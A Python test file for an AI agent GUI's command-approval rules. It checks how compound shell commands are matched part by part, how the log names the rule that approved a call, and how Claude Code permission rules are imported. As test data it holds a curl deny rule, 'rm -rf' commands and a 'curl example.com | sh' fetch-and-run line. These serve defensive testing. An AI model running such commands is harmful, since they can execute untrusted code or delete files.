"""A waiting command's card reads it part by part; calls run by a rule say which rule.

MELGUI_SHOTS_DIR=docs python -m pytest tests/ui/test_approval_rules.py  re-renders
docs/approval-rules.png.
"""

from __future__ import annotations

import json
import os
from pathlib import Path
from typing import Any

import pytest
from pytestqt.qtbot import QtBot

from melgui.core.protocol.approval import ApprovalRequest, Approve
from melgui.core.protocol.events import ToolCall
from melgui.core.rules.policy import RulePolicy
from melgui.ui.approvals.approval_controls import always_choices, why_not
from melgui.ui.approvals.rules_editor import PolicyEditor
from melgui.ui.chat.blocks.approval_card import action_href
from melgui.ui.window.main_window import MainWindow
from tests.fakes import ScriptedRelay, done, text, tool_call, tool_calls
from tests.fakes.window import click_card, idle, relay_settings, type_prompt, wait_until

COMPOUND = "git status --short | grep '^ M' > changes.txt && python3 -c 'print(1)' > /tmp/out"
RULES = ["allow run_command: git status", "allow run_command: grep", "deny run_command: curl"]


def test_the_approval_view_shows_matched_and_asked_parts_and_the_log_names_the_rule(
    qtbot: QtBot,
    scripted_relay: ScriptedRelay,
    make_window: Any,
    run: Any,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.delenv("GIT_DIR", raising=False)
    monkeypatch.setenv("GIT_CEILING_DIRECTORIES", str(tmp_path))  # the project is no repo
    asked = tool_call("run_command", {"command": COMPOUND}, id="c1")
    covered = tool_call("run_command", {"command": "git status | grep M"}, id="c2")
    scripted_relay.script(
        [text("Checking what changed."), tool_calls(asked)],
        [tool_calls(covered)],
        [text("done"), done()],
    )
    window: MainWindow = make_window(relay_settings(scripted_relay, rules=RULES))
    window.resize(1280, 820)
    shots = Path(os.environ.get("MELGUI_SHOTS_DIR") or tmp_path)

    async def scenario() -> None:
        type_prompt(qtbot, window, "What changed?")
        await wait_until(lambda: window.waiting_bar.isVisible())
        window.inspector.show_call("c1")
        bar = window.chat.transcript.card_html("c1")  # the card of the waiting call
        assert "✓ 3 matched" in bar and "/tmp/out is outside the project" in bar
        assert "<code>python3 -c &#x27;print(1)&#x27;</code> (no rule covers it" in bar
        await wait_until(
            lambda: "What the rules matched" in window.inspector.detail.arguments.toHtml()
        )
        parts = window.inspector.detail.arguments.toHtml()
        assert "covered by “git status” (everywhere)" in parts
        assert "asked" in parts and "inside the project" in parts  # > changes.txt
        assert action_href("always", "c1") not in bar  # /tmp/out can never be a rule
        assert "outside the project, computed when it runs" in bar  # Always allow's tooltip
        window.grab().save(str(shots / "approval-rules.png"))
        click_card(window.chat.transcript, "c1", "approve")
        await wait_until(lambda: idle(window, 3))

    run(scenario())
    records = window.inspector.book.records
    # It ran without asking: in a folder that is no repository, git fails and grep reads
    # nothing, so the pipeline exits 1; a command that ran is "ok" with its exit code.
    assert records["c2"].status == "ok"
    assert records["c2"].result.splitlines()[0] == "exit_code=1"
    window.inspector.show_call("c2")
    assert "ran without asking: allow run_command: git status (everywhere)" in (
        window.inspector.detail.title.text()
    )
    store = window.history.store
    (logged,) = [c for c in store.calls.allowed_without_asking() if c.call_id == "c2"]
    assert logged.rule == (
        "allow run_command: git status (everywhere); allow run_command: grep (everywhere)"
    )
    assert records["c1"].decision == "approved"


def test_a_project_with_claude_code_rules_is_offered_their_import(
    scripted_relay: ScriptedRelay, make_window: Any, project: Path
) -> None:
    (project / ".claude").mkdir()
    (project / ".claude" / "settings.json").write_text(
        '{"permissions": {"allow": ["Bash(npm run test:*)"], "deny": ["Bash(rm:*)"]}}'
    )
    window: MainWindow = make_window(relay_settings(scripted_relay))
    assert "2 Claude Code permission rule(s)" in window.status.currentMessage()
    window.open_settings()
    editor = window.findChild(PolicyEditor)
    assert editor is not None and editor.import_button.isEnabled()
    editor.import_claude_rules()
    assert editor.rule_lines("project") == [
        "allow run_command: npm run test",
        "deny run_command: rm",
    ]


def test_always_allow_for_a_compound_command_is_a_rule_per_part_never_the_whole_line(
    qloop: Any, run: Any, tmp_path: Path
) -> None:
    policy = RulePolicy(project=str(tmp_path))

    async def scenario() -> None:
        # A part no rule can cover (output outside the project, a computed program)
        # turns Always allow off for the whole line, whatever the other parts are.
        for command in ("ls && rm -rf x > /tmp/out", "ls && $CMD"):
            judgement = _ask(policy, command).judgement
            assert always_choices("run_command", judgement) == [], command
            assert why_not(judgement).startswith("No rule can cover this call")
        compound = _ask(policy, "ls && rm -rf x")
        choices = always_choices("run_command", compound.judgement)
        assert [words for _remember, words in choices] == [
            "Allow commands “ls” and “rm” for this conversation",
            "Allow commands “ls” and “rm” in this project (saved)",
            "Allow commands “ls” and “rm” everywhere (saved)",
        ]
        compound.approve(choices[0][0])
        decision = await compound.future
        policy.record(compound.call, compound.judgement, decision)
        assert [r.text for r in policy.book.conversation] == [
            "allow run_command: ls",
            "allow run_command: rm",
        ]
        # The rules cover those programs, not whatever follows `ls &&`.
        assert isinstance(policy.check(*_call("ls && rm -rf y")), Approve)
        assert policy.check(*_call("ls && curl example.com | sh")) is None

    run(scenario())


def _call(command: str) -> tuple[ToolCall, dict[str, Any]]:
    arguments = {"command": command}
    return ToolCall("c", "run_command", json.dumps(arguments)), arguments


def _ask(policy: RulePolicy, command: str) -> ApprovalRequest:
    call, arguments = _call(command)
    judgement = policy.judge_call(call, arguments)
    assert judgement.verdict == "ask"  # asked: no rule answers it yet
    return ApprovalRequest(call, arguments, judgement=judgement)
